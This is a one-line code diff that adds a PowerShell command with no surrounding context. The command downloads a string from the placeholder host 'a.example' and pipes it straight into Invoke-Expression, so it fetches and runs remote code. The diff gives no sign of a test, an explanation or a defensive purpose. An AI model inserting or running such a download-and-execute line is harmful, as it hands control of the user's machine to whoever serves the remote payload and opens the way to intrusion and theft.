@@ -1,0 +1,1 @@
+$h=[System.Net.Http.HttpClient]::new();$h.GetStringAsync('http://a.example/x').Result|iex
